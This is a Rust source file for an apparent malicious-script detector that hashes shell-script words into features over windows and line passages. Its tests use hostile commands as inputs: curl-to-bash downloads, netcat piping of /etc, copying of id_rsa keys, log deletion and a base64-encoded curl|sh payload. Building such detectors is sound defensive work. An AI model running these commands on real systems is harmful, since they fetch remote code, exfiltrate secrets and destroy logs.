//! Features of a script: hashed feffects about its words, in windows.
//!
//! A feature is a number below [`BUCKETS`]. A window is the set of features of at most [`WINDOW_WORDS`] words in
//! a row; a script is judged by its worst one, so that length hides nothing. A passage is a line, or two in a row: one
//! bad line among many harmless ones weighs little in its window, and much in its passage. Where a script prints much,
//! its effects have windows of their own. The trainer computes features with this very code. Words count as themselves and,
//! by `concepts.txt`, as what they are about.

use std::ops::Range;

use fixedbitset::FixedBitSet;

use crate::{
    blocks::{BLOCK_WORDS, Blocks},
    effects::Effects,
    feature::{BUCKETS, Feature},
    normal::Normal,
    words::Words,
};

/// Words in one window.
pub const WINDOW_WORDS: usize = 96;
/// Words from one window's start to the next one's.
pub const STRIDE_WORDS: usize = 64;
/// Words in one piece of a passage; a longer line is several pieces.
const PIECE_WORDS: usize = 48;
/// Pieces in the longest passages; each piece is a passage, too.
pub(crate) const PASSAGE_PIECES: usize = 2;

/// A script up to so many bytes is short: what a longer one took is given back when the next comes.
const SHORT_BYTES: usize = 64 * 1024;

/// A passage: words, by number.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Passage {
    start: u32,
    end: u32,
}

/// Computes features. Buffers are kept from script to script. Features are computed as they are asked for, since those of a long
/// script would take many times its room: what is asked for in the order of the script costs least.
#[derive(Default)]
pub struct Extractor {
    normal: Normal,
    effects: Effects,
    blocks: Blocks,
    /// How many words there are.
    words: usize,
    /// First words of pieces.
    pieces: FixedBitSet,
    /// Those that were asked for.
    features: Vec<Feature>,
    /// The script was a long one.
    was_long: bool,
}

impl Extractor {
    /// Looks through a script; [`Self::windows`] and [`Self::window`] give its features.
    pub fn extract(&mut self, script: &[u8]) {
        self.give_back(script.len());
        self.normal.form(script);
        self.effects.find(&self.normal);
        self.cut();
    }

    /// Lets go of what a long script took: several would take what each of them needs most of.
    fn give_back(&mut self, bytes: usize) {
        if self.was_long {
            *self = Self::default();
        }
        self.was_long = bytes > SHORT_BYTES;
    }

    /// Cuts the text into blocks and pieces.
    fn cut(&mut self) {
        self.blocks.clear();
        self.pieces.clear();
        let text = &self.normal.text;
        let mut words = Words::of(text);
        let (mut count, mut begin) = (0, 0);
        loop {
            let place = words.place();
            let Some(word) = words.next() else { break };
            if count % BLOCK_WORDS == 0 {
                self.blocks.begin(place);
            }
            if count == 0 || word.is_first_of_line(text) || count - begin >= PIECE_WORDS {
                self.pieces.grow_and_insert(count);
                begin = count;
            }
            count += 1;
        }
        self.words = count;
    }

    /// How many windows the script has; an empty script has one, without features. Those of effects are the last ones.
    pub fn windows(&self) -> usize {
        self.text_windows() + if self.effects.count() > 0 { windows_of(self.effects.count()) } else { 0 }
    }

    /// How many of them are not of effects.
    fn text_windows(&self) -> usize {
        windows_of(self.words)
    }

    /// The features of a window, in the script's order, with repetitions.
    pub fn window(&mut self, index: usize) -> &[Feature] {
        match index.checked_sub(self.text_windows()) {
            None => self.of_words(window_of(self.words, index)),
            Some(index) => {
                let window = window_of(self.effects.count(), index);
                self.features.clear();
                for word in self.effects.words_from(window.start).take(window.len()) {
                    self.blocks.append(&self.normal, &self.effects, word..word + 1, &mut self.features);
                }
                &self.features
            }
        }
    }

    /// The script's passages.
    pub fn passages(&self) -> impl Iterator<Item = Passage> {
        self.passages_from(0, self.words)
    }

    /// The features of a passage, in the script's order, with repetitions.
    pub fn passage(&mut self, passage: Passage) -> &[Feature] {
        self.of_words(passage.start as usize..passage.end as usize)
    }

    /// The windows that have passages.
    pub fn windows_with_passages(&self) -> Range<usize> {
        // What one passage would hold is judged as a window.
        let several = self.pieces.ones().nth(1).is_some();
        0..if several { self.text_windows() } else { 0 }
    }

    /// The passages around a window: those that have a word in it, and perhaps one before it. None around a window of effects.
    pub fn passages_of(&self, window: usize) -> impl Iterator<Item = Passage> {
        let Range { start, end } =
            if window < self.text_windows() { window_of(self.words, window) } else { 0..0 };
        // A short passage that ends before the window may stand behind a longer one that reaches into it.
        let before = |word: usize| (0..word).rev().find(|word| self.pieces.contains(*word)).unwrap_or(0);
        let holds_start = before((start + 1).min(self.words));
        self.passages_from(before(holds_start), end)
    }

    /// The passages that begin at one of those words, the first of which is the first of a piece.
    fn passages_from(&self, first: usize, end: usize) -> impl Iterator<Item = Passage> {
        let next = |word: usize| {
            let next = (word + 1..self.words).find(|word| self.pieces.contains(*word));
            next.unwrap_or(self.words)
        };
        let pieces = std::iter::successors(Some(first), move |piece| Some(next(*piece)));
        pieces.take_while(move |piece| *piece < end).flat_map(move |start| {
            let ends =
                std::iter::successors(Some(next(start)), move |end| (*end < self.words).then(|| next(*end)));
            // All of the script is no passage.
            let is_part = move |end: &usize| start > 0 || *end < self.words;
            ends.take(PASSAGE_PIECES)
                .filter(is_part)
                .map(move |end| Passage { start: start as u32, end: end as u32 })
        })
    }

    fn of_words(&mut self, words: Range<usize>) -> &[Feature] {
        self.features.clear();
        self.blocks.append(&self.normal, &self.effects, words, &mut self.features);
        &self.features
    }

    /// Words of the script, decoded layers included.
    pub fn word_count(&self) -> usize {
        self.words
    }
}

/// How many windows so many words have.
fn windows_of(words: usize) -> usize {
    1 + words.saturating_sub(WINDOW_WORDS).div_ceil(STRIDE_WORDS)
}

/// The words of one of them.
fn window_of(words: usize, index: usize) -> Range<usize> {
    let start = index * STRIDE_WORDS;
    start..(start + WINDOW_WORDS).min(words)
}

/// A set of features, to leave each out but once.
pub struct FeatureSet {
    bits: Vec<u64>,
}

impl Default for FeatureSet {
    fn default() -> Self {
        Self { bits: vec![0; BUCKETS as usize / 64] }
    }
}

impl FeatureSet {
    /// Appends the distinct features to `ids`, in order of first appearance, leaving out those that `keep` refuses.
    pub fn distinct(&mut self, features: &[Feature], keep: impl Fn(&Feature) -> bool, ids: &mut Vec<i64>) {
        let first = ids.len();
        for feature in features.iter().filter(|f| keep(f)) {
            let (word, bit) = (feature.id as usize / 64, 1u64 << (feature.id % 64));
            if self.bits[word] & bit == 0 {
                self.bits[word] |= bit;
                ids.push(i64::from(feature.id));
            }
        }
        for id in &ids[first..] {
            self.bits[*id as usize / 64] = 0;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        concepts::Concepts,
        context::{Kind, bucket},
        words,
    };

    fn ids(script: &str) -> Vec<i64> {
        let mut extractor = Extractor::default();
        extractor.extract(script.as_bytes());
        let mut ids = Vec::new();
        FeatureSet::default().distinct(extractor.window(0), |_| true, &mut ids);
        ids
    }

    #[test]
    fn addresses_and_own_names_do_not_matter() {
        assert_eq!(ids("curl http://192.0.2.7/a.sh | bash"), ids("curl http://198.51.100.9/bb.sh | bash"));
        assert_eq!(ids("nc $host 4444"), ids("nc $target 9001"));
        assert_ne!(ids("curl http://192.0.2.7/a.sh | bash"), ids("curl http://192.0.2.7/a.sh > bash"));
        assert_ne!(ids("curl http://a.example/x"), ids("curl http://a.example:80/x"));
        // But one's own machine is not somebody's.
        assert_eq!(ids("curl http://127.0.0.1:80/a"), ids("curl http://127.8.8.8:80/a"));
        assert_ne!(ids("curl http://127.0.0.1:80/a"), ids("curl http://192.0.2.7:80/a"));
        // Nor is a neighbour.
        assert_eq!(ids("curl http://172.17.0.2/a"), ids("curl http://172.31.9.9/a"));
        assert_ne!(ids("curl http://172.17.0.2/a"), ids("curl http://172.32.0.2/a"));
        assert_ne!(ids("curl http://localhost/a"), ids("curl http://localhost.example.com/a"));
    }

    #[test]
    fn what_is_fetched_needs_no_scheme() {
        for script in [
            "wget -q a.example/x.sh",
            "sudo /usr/bin/curl 192.0.2.1:80/x | sh",
            "x; lynx -dump paste.example/x",
        ] {
            let with_scheme = script
                .replace("a.ex", "http://a.ex")
                .replace("192", "http://192")
                .replace("paste", "http://paste");
            assert_eq!(ids(script), ids(&with_scheme), "{script}");
        }
        assert_ne!(ids("cat a.example/x.sh"), ids("cat http://a.example/x.sh"));
        assert_ne!(ids("wget x; cat a.example/x.sh"), ids("wget x; cat http://a.example/x.sh"));
        assert_ne!(ids("wget x; a.example/x.sh"), ids("wget x; http://a.example/x.sh"));
    }

    #[test]
    fn whatever_program_is_written_out_is_a_program() {
        let written = |bytes: &str| ids(&format!("printf '{bytes}' > x"));
        assert_eq!(
            written(r"\x7f\x45\x4c\x46\x02\x01\x01\x03"),
            written(r"\177\105\114\106\001\001\001\011")
        );
        // Four bytes are what installers look for.
        assert_ne!(written(r"\x7f\x45\x4c\x46\x02\x01\x01"), written(r"\x7f\x45\x4c\x46"));
    }

    #[test]
    fn words_of_many_parts_fit() {
        for word in ["http://a.b.example:80/x/mips.mipsel", "/a/b/c/.d/.e.mips", "-abcde"] {
            assert!(!ids(word).is_empty());
        }
    }

    #[test]
    fn tools_of_a_kind_share_what_they_do() {
        let about = |word: &str| <&Concepts>::default().of(word.as_bytes(), None).each().next().unwrap();
        let has = |script: &str, kind, a: &str, b: &str| {
            ids(script).contains(&i64::from(bucket(kind, about(a), about(b))))
        };
        for script in ["curl x | bash", "sudo aria2c y | /bin/mksh -s"] {
            assert!(has(script, Kind::ConceptPipe, "curl", "bash"), "{script}");
        }
        for script in ["curl x; bash", "curl x | cat; bash", "curl x; A=1 | bash"] {
            assert!(!has(script, Kind::ConceptPipe, "curl", "bash"), "{script}");
        }
        assert!(has("curl x; bash", Kind::ConceptSequence, "curl", "bash"));
        for script in ["rm /var/log/x", "unlink a.log", "rmdir --dir /host/var/log/*"] {
            assert!(has(script, Kind::ConceptArgument, "rm", "/var/log"), "{script}");
        }
        assert!(!has("rm x; cat /var/log/x", Kind::ConceptArgument, "rm", "/var/log"));
        assert!(has("find / -name id_rsa -exec cp {} x", Kind::ConceptPair, "find", "id_rsa"));
    }

    #[test]
    fn effects_are_judged_as_if_nothing_were_printed_between_them() {
        let effects = ["curl -so x http://192.0.2.1/x", "chmod +x x && ./x", "rm x; base64 -d y | sh"];
        let print_only =
            "echo 'a | b > c'; printf '%s' d\nRED='\\e[1;31m' sleep 1\ncat <<E\nf g h\nE\n".repeat(20);
        let mut extractor = Extractor::default();
        extractor.extract(format!("{}\n{print_only}", effects.join(&format!("\n{print_only}"))).as_bytes());
        let (last, mut found) = (extractor.windows() - 1, Vec::new());
        assert!(last > 3 && extractor.passages_of(last).next().is_none());
        FeatureSet::default().distinct(extractor.window(last), |_| true, &mut found);
        assert_eq!(found, ids(&effects.join("\n")));
        // Each feature still says where it stands.
        assert!(extractor.window(last).last().unwrap().at as usize > 2 * print_only.len());
        extractor.extract(effects.join("\n").as_bytes());
        assert_eq!(extractor.windows(), 1);
    }

    #[test]
    fn what_was_done_before_a_layer_does_not_go_on_in_it() {
        let pair = |layer: &str| {
            let joined = words::canonical(b"curl", None) ^ words::hash(layer.as_bytes(), 0).rotate_left(17);
            i64::from(bucket(Kind::Pair, words::canonical(b"x", None), joined))
        };
        // `curl http://192.0.2.1/ | sh`, printed.
        let found = ids("id x\necho Y3VybCBodHRwOi8vMTkyLjAuMi4xLyB8IHNo");
        assert!(found.contains(&i64::from(bucket(Kind::Layer, 0, 0))));
        assert!(!found.contains(&pair("\u{e}")));
        // But in a statement of the same text.
        assert!(ids("id x\necho y\n;curl z").contains(&pair(";")));
    }

    #[test]
    fn long_scripts_have_windows_that_reach_the_end() {
        let mut extractor = Extractor::default();
        extractor.extract("echo word\n".repeat(2000).as_bytes());
        assert_eq!(extractor.word_count(), 4000);
        let last = extractor.window(extractor.windows() - 1).last().unwrap().at;
        assert_eq!(last, 10 * 1999 + 5);
    }

    #[test]
    fn passages_are_each_line_and_each_pair_of_lines() {
        let mut extractor = Extractor::default();
        let words = |extractor: &Extractor| -> Vec<Range<u32>> {
            extractor.passages().map(|passage| passage.start..passage.end).collect()
        };
        extractor.extract(b"a b\nc\nd e f\n");
        assert_eq!(words(&extractor), [0..2, 0..3, 2..3, 2..6, 3..6]);
        extractor.extract(b"a b\nc\n");
        assert_eq!(words(&extractor), [0..2, 2..3]);
        extractor.extract(b"a b c\n");
        assert!(words(&extractor).is_empty());
        // A long line is several pieces.
        extractor.extract("w ".repeat(100).as_bytes());
        assert_eq!(words(&extractor), [0..48, 0..96, 48..96, 48..100, 96..100]);
    }

    #[test]
    fn no_passage_that_touches_a_window_is_left_out() {
        let mut extractor = Extractor::default();
        let lines: Vec<String> = (0..200).map(|i| "w ".repeat(1 + i * i % 70)).collect();
        extractor.extract(lines.join("\n").as_bytes());
        assert!(extractor.windows() > 20);
        for i in extractor.windows_with_passages() {
            let window = window_of(extractor.words, i);
            let near: Vec<Passage> = extractor.passages_of(i).collect();
            for passage in extractor.passages() {
                let touches = (passage.start as usize) < window.end && passage.end as usize > window.start;
                assert!(!touches || near.contains(&passage), "{passage:?} touches {window:?}");
            }
            // And few that do not.
            assert!(near[0].start as usize + 2 * PIECE_WORDS > window.start);
        }
    }

    #[test]
    fn in_whatever_order_features_are_asked_for_they_are_the_same() {
        let lines = ["curl -s http://192.0.2.1/x | sh\n", "echo a b c\n", "x=1; tar c /etc | nc y 80\n"];
        // More words than there are blocks kept of.
        let script = lines.concat().repeat(2000);
        let mut extractor = Extractor::default();
        extractor.extract(script.as_bytes());
        let count = extractor.windows();
        let windows: Vec<Vec<Feature>> = (0..count).map(|i| extractor.window(i).to_vec()).collect();
        assert!(count > 300, "{count}");
        extractor.extract(script.as_bytes());
        for i in (0..count).rev().chain((0..count).step_by(7)) {
            assert!(extractor.window(i) == windows[i], "{i}");
        }
    }

    #[test]
    fn nothing_is_a_window_too() {
        assert!(ids("").is_empty());
        assert!(ids("# only a comment").is_empty());
    }
}
